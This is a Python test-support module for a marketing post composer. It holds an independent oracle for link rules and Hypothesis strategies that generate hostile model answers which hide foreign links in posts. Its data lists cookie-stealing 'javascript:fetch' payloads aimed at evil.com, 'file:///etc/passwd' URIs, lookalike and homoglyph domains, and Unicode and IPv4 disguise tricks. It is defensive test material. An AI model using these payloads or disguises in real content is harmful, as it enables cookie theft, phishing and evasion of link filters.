"""Shared by the composer's tests: an independent link-rule oracle and answer strategies."""

from __future__ import annotations

import ipaddress
import re
import unicodedata
from collections.abc import Callable, Sequence
from typing import Any

import attrs
from hypothesis import strategies as st

from engagequeue._hosts import ip_of_host
from engagequeue._tlds import TLDS

SALE = "https://shop.example.com/spring-sale"
SHOES = "https://shop.example.com/p/trail-shoes?ref=wa"
LINKS = (SALE, SHOES)


def assert_follows_link_rules(text: str, links: tuple[str, ...], limit: int) -> None:
    """An oracle written apart from the checker: the post is fit to send, links and all."""
    assert text.strip(), "the post is blank"
    assert len(text) <= limit, f"{len(text)} > {limit}"
    chars = list(text)
    found_allowed = False
    for link in sorted(links, key=len, reverse=True):
        for match in re.finditer(re.escape(link), text):
            start, end = match.span()
            if any(c == "\0" for c in chars[start:end]):
                continue  # inside a longer allowed link already masked
            before_ok = start == 0 or text[start - 1].isspace()
            after_ok = re.match(r"[.,;:!?]*(?:\s|$)", text[end:]) is not None
            if before_ok and after_ok:
                chars[start:end] = "\0" * (end - start)
                found_allowed = True
    masked = fold("".join(chars))
    if links:
        assert found_allowed, f"no bare allowed link in {text!r}"
    assert not _BARE_SCHEME.search(masked), f"a {_BARE_SCHEME.search(masked)!r} URI in {text!r}"
    assert not any(map(_is_ip, _IPV4.finditer(masked))), f"an IPv4 host in {text!r}"
    assert not any(map(_is_ip, _IPV6.finditer(masked))), f"an IPv6 host in {text!r}"
    assert not re.search(r"[A-Za-z][A-Za-z0-9+.\-]*:[/\\]", masked), (
        f"a URL that is not a bare allowed link remains: {text!r}"
    )
    assert not re.search(r"(?i)(?<![^\W_])www\d{0,3}\.[^\W_]", masked), text
    for match in re.finditer(r"[^\W_]\.([^\W_](?:[^\W_]|-)*)", masked):
        assert match.group(1).lower() not in TLDS, f"bare domain {match.group()!r} in {text!r}"
    assert not re.search(r"\[[^\]\n]*\]\([^)\n]*\)", masked), f"Markdown link in {text!r}"
    assert not any(ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069" for ch in text)


# What a reader or a URL parser does not see, or sees as ASCII: Unicode's default-ignorable
# code points, characters NFKC maps to ASCII, and the dots IDNA reads as "." (before an
# ASCII label only: in CJK text they end sentences).
_INVISIBLE = re.compile(
    "[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u202a-\u202e"
    "\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\U0001bca0-\U0001bca3\U0001d173-\U0001d17a"
    "\U000e0000-\U000e0fff]"
)
ODD_DOTS = "\u3002\uff0e\uff61\ufe52\u2024"
_BARE_SCHEME = re.compile(
    r"(?i)(?<![A-Za-z0-9+.\-])(?:javascript|vbscript|data|file|mailto|tel|sms|intent|https?|ftp)"
    r":(?=\S)"
)
_NUMBER = r"(?:0x[0-9a-f]*|[0-9]+)"
_IPV4 = re.compile(rf"(?i)(?<![\w.]){_NUMBER}(?:\.{_NUMBER}){{1,3}}(?!\w|\.\w)")
_IPV6 = re.compile(r"\[([0-9A-Fa-f:.]{2,45})(?:%[\w.~\-]{1,32})?\]")


def fold(text: str) -> str:
    """``text`` as a reader or a URL parser takes it (see above)."""
    chars = []
    for ch in _INVISIBLE.sub("", text):
        ascii_ = unicodedata.normalize("NFKC", ch)
        chars.append(ascii_ if ascii_.isascii() and ch not in ODD_DOTS else ch)
    return re.sub(f"[{ODD_DOTS}](?=[A-Za-z0-9])", ".", "".join(chars))


def _is_ip(match: re.Match[str]) -> bool:
    """An IP host as a reader takes one: [IPv6]; IPv4 in four parts, with hex, or a port."""
    if match.re is _IPV6:
        try:
            ipaddress.IPv6Address(match.group(1))
        except ValueError:
            return False
        return True
    parts = match.group().split(".")
    port = re.match(r":\d", match.string[match.end() :]) is not None
    if not (len(parts) == 4 or port or any("x" in p.lower() for p in parts)):
        return False
    try:
        return ip_of_host(match.group()) is not None
    except ValueError:
        return False


_ALLOWED_VARIANTS = [
    SALE,
    SHOES,
    "HTTPS://SHOP.EXAMPLE.COM/spring-sale",
    "https://shop.example.com:443/spring-sale/",
    "shop.example.com/spring-sale",
    "https://shop.example.com/p/trail-shoes?ref=wa#top",
]
_FOREIGN = [
    "https://evil.example/x",
    "http://shop.example.com/spring-sale",
    "https://sh\u043ep.example.com/spring-sale",
    "https://shop.example.com/spring-sale-2",
    "https://shop.example.com.evil.io/spring-sale",
    "www.evil.example",
    "evil.shop",
    "deals@shop.example.com",
    "ftp://files.example/a",
    "https://",
    "https:/ /broken.example",
    "xn--80ak6aa92e.com",
    "example.рф",
    "https://user:pw@shop.example.com/spring-sale",
]
_GLUE = [*"*_~()[]<>\"'`.,;:!?-/@#|", "**", "](", "[", "\u200b", "\u202e", "“", "”", "🎉"]
_WORDS = ["Spring", "sale", "shoes", "run", "end.It", "e.g.", "3.14", "file.txt", "# ", "| a |"]

pieces = st.one_of(
    st.sampled_from(_ALLOWED_VARIANTS),
    st.sampled_from(_FOREIGN),
    st.sampled_from(_GLUE),
    st.sampled_from(_WORDS),
    st.sampled_from([" ", " ", "\n", "\n\n", "\t"]),
    st.text(max_size=8),
    st.builds(
        lambda label, url: f"[{label}]({url})",
        st.sampled_from(_WORDS),
        st.sampled_from(_ALLOWED_VARIANTS + _FOREIGN),
    ),
)
answers = st.lists(pieces, max_size=40).map("".join)
link_sets = st.sampled_from([LINKS, (SALE,), (SHOES, SALE), ()])


# --------------------------------------------------------------------------- hostile answers

_FOREIGN_HOSTS = [
    "evil.com",
    "bit.ly",
    "www.evil.example",
    "shop.example.com.evil.io",
    "login.example.com.evil.ru",
    "xn--80ak6aa92e.com",
]
_SCHEME_PREFIXES = ["", "", "https://", "http://", "HTTPS://", "https:", "https:/", "ftp://", "//"]
_PATHS = ["", "/", "/login", "/spring-sale", "/p/trail-shoes?ref=wa", "?next=/x", "#top"]
_URIS = [
    "javascript:alert(1)",
    "javascript:fetch('//evil.com/'+document.cookie)",
    "vbscript:msgbox(1)",
    "data:text/html,<b>win</b>",
    "data:text/html;base64,PGgxPndpbjwvaDE+",
    "file:///etc/passwd",
    "file:/C:/Windows/win.ini",
    "mailto:deals@evil.com",
    "tel:+19005550123",
    "sms:+19005550123?body=win",
    "intent://scan/#Intent;scheme=zxing;end",
    "whatsapp://send?phone=19005550123",
    "deals@evil.com",
]
_INVISIBLES = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\ufe0f"]
_GLUE_AROUND = [
    " ",
    "\n",
    " (",
    ") ",
    " *",
    "* ",
    " _",
    "_ ",
    " ~",
    ' "',
    '" ',
    " «",
    "» ",
    " 👉 ",
    " <",
    "> ",
    ": ",
]


def _fullwidth(ch: str) -> str:
    return chr(ord(ch) + 0xFEE0) if "!" <= ch <= "~" else ch


def _math_bold(ch: str) -> str:
    if "a" <= ch <= "z":
        return chr(0x1D41A + ord(ch) - ord("a"))
    if "A" <= ch <= "Z":
        return chr(0x1D400 + ord(ch) - ord("A"))
    if "0" <= ch <= "9":
        return chr(0x1D7CE + ord(ch) - ord("0"))
    return ch


Pick = Callable[[Sequence[Any]], Any]
"""Chooses one of the options: a Hypothesis draw in tests, a seeded ``random`` elsewhere."""

_FORMS = {
    "same": str,
    "fullwidth": _fullwidth,
    "bold": _math_bold,
    "case": str.swapcase,
}


def disguise_with(plain: str, pick: Pick) -> str:
    """``plain`` with characters in fullwidth or mathematical forms, another case, odd dots
    before ASCII labels, and invisible characters in between: the same link to a parser."""
    out = []
    for index, ch in enumerate(plain):
        nxt = plain[index + 1 : index + 2]
        if ch == "." and nxt.isascii() and nxt.isalnum() and pick([True, False]):
            out.append(pick(ODD_DOTS))
        else:
            out.append(_FORMS[pick(["same", "same", "fullwidth", "bold", "case"])](ch))
        if pick(range(10)) == 0:
            out.append(pick(_INVISIBLES))
    return "".join(out)


def spell_ipv4(address: int, pick: Pick) -> str:
    """An IPv4 host in a spelling taken for one: four parts each in decimal, hex or octal,
    two or three parts with a hex one, or any of those with a port."""
    octets = list(ipaddress.IPv4Address(address).packed)
    count = pick([4, 4, 3, 2])
    if count == 4:
        values = octets
    elif count == 3:
        values = [octets[0], octets[1], octets[2] << 8 | octets[3]]
    else:
        values = [octets[0], int.from_bytes(bytes(octets[1:]), "big")]
    styles = [pick(["dec", "hex", "oct"]) for _ in values]
    port = pick(["", ":80", ":8080"])
    if count < 4 and "hex" not in styles and not port:
        styles[0] = "hex"
    return ".".join(map(_spell_ipv4_part, values, styles)) + port


def _spell_ipv4_part(value: int, style: str) -> str:
    return {"dec": str(value), "hex": hex(value), "oct": f"0{value:o}"}[style]


def _drawing(draw: st.DrawFn) -> Pick:
    return lambda options: draw(st.sampled_from(options))


@st.composite
def disguise(draw: st.DrawFn, plain: str) -> str:
    """``disguise_with`` drawn by Hypothesis."""
    return disguise_with(plain, _drawing(draw))


@st.composite
def ipv4_hosts(draw: st.DrawFn) -> str:
    """``spell_ipv4`` drawn by Hypothesis."""
    return spell_ipv4(draw(st.integers(0, 2**32 - 1)), _drawing(draw))


ipv6_hosts = st.ip_addresses(v=6).map(lambda a: f"[{a}]") | st.sampled_from(
    ["[::1]", "[::ffff:127.0.0.1]", "[2001:db8::1]", "[fe80::1%25eth0]"]
)


@st.composite
def plain_foreign_links(draw: st.DrawFn) -> str:
    """A foreign link as a model may write it, before any disguise."""
    kind = draw(st.sampled_from(["host", "ipv4", "ipv6", "uri"]))
    if kind == "uri":
        return draw(st.sampled_from(_URIS))
    host = {
        "host": st.sampled_from(_FOREIGN_HOSTS),
        "ipv4": ipv4_hosts(),
        "ipv6": ipv6_hosts,
    }[kind]
    return draw(st.sampled_from(_SCHEME_PREFIXES)) + draw(host) + draw(st.sampled_from(_PATHS))


@attrs.frozen
class HostileAnswer:
    """A model answer that hides a foreign link at ``start:end``."""

    text: str
    start: int
    end: int


_FILLER = st.one_of(
    st.sampled_from(["Spring sale!", "Up to 40% off.", "Run with us", "19.99/month", "12.05.2024"]),
    st.sampled_from(["\x00", "\ud800", "\udfff", "\u202e", "**big**", "# Sale", "| a | b |"]),
    st.sampled_from(_ALLOWED_VARIANTS),
    st.text(max_size=6),
)


@st.composite
def hostile_answers(draw: st.DrawFn) -> HostileAnswer:
    """Prose around one disguised foreign link, bare or as a Markdown link's target or label,
    with NUL, lone surrogates, formatting and sometimes text past WhatsApp's limit."""
    link = draw(disguise(draw(plain_foreign_links())))
    before = "".join(draw(st.lists(_FILLER, max_size=4)))
    after = "".join(draw(st.lists(_FILLER, max_size=4)))
    if draw(st.integers(0, 7)) == 0:
        after += " word" * draw(st.integers(800, 1000))  # over-long
    wrap = draw(st.sampled_from(["bare", "bare", "target", "label"]))
    left, right = draw(st.sampled_from(_GLUE_AROUND)), draw(st.sampled_from(_GLUE_AROUND))
    if wrap == "target":
        left, right = left + "[Deal](", ")" + right
    elif wrap == "label":
        left, right = left + "[", f"]({draw(st.sampled_from(LINKS))})" + right
    head = before + left
    return HostileAnswer(head + link + right + after, len(head), len(head) + len(link))
